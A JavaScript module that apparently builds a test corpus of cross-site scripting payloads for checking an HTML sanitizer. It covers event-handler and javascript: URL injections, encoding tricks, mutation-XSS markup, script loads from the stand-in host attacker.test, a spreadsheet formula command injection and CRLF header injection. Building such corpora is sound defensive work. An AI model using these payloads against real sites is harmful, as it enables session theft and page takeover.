// Attempts to run a script on somebody else's page. A script that runs calls `alert` or a similar function,
// or asks `attacker.test` for something.
import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const DO = 'alert(document.domain)';
const HOST = '//attacker.test';

const elements = [
  `<script>${DO}</script>`, `<script src=${HOST}/x.js></script>`, `<SCRIPT/x>${DO}</SCRIPT>`, `<scr<script>ipt>${DO}</scr</script>ipt>`,
  `<script type=module>import('https:${HOST}/x.js')</script>`, `<script>${DO}`, `<<script>${DO}//<</script>`,
  `<img src=x onerror=${DO}>`, `<img/src=x/onerror=${DO}>`, `<img src=x oNeRrOr='${DO}'>`, `<img src=\`x\`onerror=${DO}>`, `<img src="x\`" onerror="${DO}">`,
  `<img src=x onerror\n=\n${DO}>`, `<img src=x onerror&#x3d;${DO}>`, `<img srcset="${HOST}/a 1x, x 2x" onerror=${DO}>`, `<image src=x onerror=${DO}>`,
  `<body onload=${DO}>`, `<body onpageshow=${DO}>`, `<svg onload=${DO}>`, `<svg/onload=${DO}//`, `<svg><script>${DO}</script></svg>`, `<svg><script href=${HOST}/x.js />`,
  `<svg><animate onbegin=${DO} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${DO}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${DO}</script></svg>#x">`,
  `<svg><set attributeName=href to=javascript:${DO}>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${DO}</script>"></foreignObject></svg>`,
  `<math href="javascript:${DO}">x</math>`, `<math><maction actiontype=statusline#http://x xlink:href=javascript:${DO}>x`,
  `<iframe src="javascript:parent.${DO}"></iframe>`, `<iframe srcdoc="<img src=x onerror=parent.${DO}>"></iframe>`, `<iframe src=${HOST}/></iframe>`, `<iframe onload=${DO}>`,
  `<object data="javascript:${DO}"></object>`, `<object data="data:text/html,<script>${DO}</script>">`, `<embed src="javascript:${DO}">`, `<embed src=${HOST}/x.swf>`,
  `<applet code=x archive=${HOST}/>`, `<base href=${HOST}/>`, `<link rel=stylesheet href=${HOST}/x.css>`, `<link rel=prefetch href=${HOST}/>`, `<link rel=import href=${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${DO}">`, `<meta http-equiv=refresh content="0;url=${HOST}/">`, `<meta http-equiv=Set-Cookie content="a=1">`,
  `<style>@import '${HOST}/x.css';</style>`, `<style>*{background:url(${HOST}/x)}</style>`, `<p style="background:url(${HOST}/x)">x`, `<p style="width:expression(${DO})">x`,
  `<video src=x onerror=${DO}>`, `<video><source onerror=${DO}></video>`, `<audio src=x onerror=${DO}>`, `<video poster=${HOST}/x>`, `<track src=${HOST}/x onerror=${DO}>`,
  `<details open ontoggle=${DO}>x</details>`, `<marquee onstart=${DO}>x</marquee>`, `<input autofocus onfocus=${DO}>`, `<select autofocus onfocus=${DO}>`,
  `<textarea autofocus onfocus=${DO}>`, `<button popovertarget=p onbeforetoggle=${DO}>x</button>`, `<p id=x tabindex=1 onfocus=${DO} autofocus>x`,
  `<form action="javascript:${DO}"><button>x</button></form>`, `<button form=x formaction="javascript:${DO}">x</button>`, `<isindex action=javascript:${DO} type=image>`,
  `<input type=image src=${HOST}/x onerror=${DO}>`, `<table background=${HOST}/x>`, `<td background="javascript:${DO}">`, `<frameset onload=${DO}>`, `<portal src=${HOST}>`,
  `<template><script>${DO}</script></template>`, `<p onwheel=${DO} onanimationstart=${DO} style=animation:x>x`, `<xss onclick=${DO}>x</xss>`,
];
const links = [
  `javascript:${DO}`, `JaVaScRiPt:${DO}`, `java\tscript:${DO}`, `java\nscript:${DO}`, `java&#x09;script:${DO}`, `&#106;avascript:${DO}`, `&#0000106avascript:${DO}`,
  `\u0001javascript:${DO}`, ` javascript:${DO}`, `javascript&colon;${DO}`, `javascript://%0a${DO}`, `vbscript:${DO}`, `data:text/html,<script>${DO}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `feed:javascript:${DO}`, `view-source:javascript:${DO}`, `blob:${DO}`, `${HOST}/`, `\\\\attacker.test\\x`,
  `http:attacker.test`, `https:/\\attacker.test`, `jar:javascript:${DO}!/`, `javas\u200bcript:${DO}`,
].map((address) => `<a href="${address}">x</a>`);
/** Markup that one parser writes and the next reads in another way (mXSS). */
const twice = [
  `<noscript><p title="</noscript><img src=x onerror=${DO}>">`, `<noembed><img title="</noembed><img src=x onerror=${DO}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${DO}>">`, `<title><img title="</title><img src=x onerror=${DO}>">`, `<xmp><p title="</xmp><img src=x onerror=${DO}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${DO}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${DO}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${DO}>`, `<svg><style><img src="</style><img src=x onerror=${DO}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${DO}></style></annotation-xml></math>`,
  `<svg><desc><noscript><a title="</noscript><img src=x onerror=${DO}>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${DO}>">`,
  `<!--><img src=x onerror=${DO}>-->`, `<!--!><img src=x onerror=${DO}>`, `<!-- --!><img src=x onerror=${DO}>`, `<![CDATA[><img src=x onerror=${DO}>]]>`, `<?xml ><img src=x onerror=${DO}>`,
  `<svg><![CDATA[</svg><img src=x onerror=${DO}>]]>`, `<p title="--&gt;&lt;img src=x onerror=${DO}&gt;">x`, `<img alt="<x" title="/><img src=x onerror=${DO}>">`,
  `${'<div>'.repeat(600)}<img src=x onerror=${DO}>`, `${'<svg><desc>'.repeat(200)}<style><a title="</style><img src=x onerror=${DO}>">`,
  `<table><tr><td><a><table><a title="<img src=x onerror=${DO}>"></table>`, `<listing>&lt;img src=x onerror=${DO}&gt;</listing>`, `<plaintext><img src=x onerror=${DO}>`,
];
/** Texts that break out of their place: an attribute, a script, a stylesheet, a feed, an address. */
const outward = [
  `"><img src=x onerror=${DO}>`, `'><img src=x onerror=${DO}>`, `" autofocus onfocus=${DO} x="`, `' onmouseover=${DO} x='`, `</title><script>${DO}</script>`,
  `</textarea><script>${DO}</script>`, `</script><script>${DO}</script>`, `<!--<script>`, `";${DO}//`, `\\";${DO}//`, `\u2028${DO}//`, `]]><script>${DO}</script>`, `-->`,
  `{{constructor.constructor('${DO}')()}}`, `\${${DO}}`, `<%= ${DO} %>`, `#{${DO}}`, `</style><script>${DO}</script>`, `%3Cscript%3E${DO}%3C/script%3E`, `&lt;script&gt;${DO}&lt;/script&gt;`,
  `\u003cscript\u003e${DO}\u003c/script\u003e`, `+ADw-script+AD4-${DO}+ADw-/script+AD4-`, `\uff1cscript\uff1e${DO}\uff1c/script\uff1e`, `&amp;lt;img src=x onerror=${DO}&amp;gt;`,
  `=cmd|' /C calc'!A0`, `\r\nSet-Cookie: a=1`, `\u202e${DO}`, `<\0script>${DO}</script>`, '\0', '\ud800',
];

/** The same, escaped by people who know that markup is removed: it is a text, and must stay one in each form and field. */
const written = [...outward, `</textarea><img src=x onerror=${DO}>`, `</option></select><script>${DO}</script>`]
  .map((text) => `<p>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</p>`);

/** All of them, with the Big List of Naughty Strings. */
export async function payloads() {
  const list = JSON.parse(await readFile(require.resolve('big-list-of-naughty-strings'), 'utf8'));
  return [...new Set([...elements, ...links, ...twice, ...outward, ...written, ...list].filter((text) => text.trim()))];
}
